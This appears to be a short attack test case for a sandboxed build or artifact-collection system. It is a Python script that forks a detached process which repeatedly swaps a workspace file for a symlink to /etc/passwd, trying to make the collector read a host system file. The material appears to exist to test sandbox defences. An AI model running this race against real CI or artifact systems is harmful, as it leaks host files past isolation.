# title: swap a file for a link while artifacts are collected, from a process that survives the step
# wall: workspace
# gvisor: workspace
# artifacts: *
import os
import sys
import time
from attack import held

with open("/workspace/good-one", "w") as f:
    f.write("x")
ready, go = os.pipe()
if os.fork() == 0:
    os.setsid()
    sys.stdout.flush()
    for i in range(30000):
        try:
            os.symlink("/etc/passwd", "/workspace/tmp-link")
            os.rename("/workspace/tmp-link", "/workspace/flip")
        except OSError:
            pass
        if i == 10:
            os.write(go, b"x")
    os._exit(0)
os.read(ready, 1)
held("swapping")
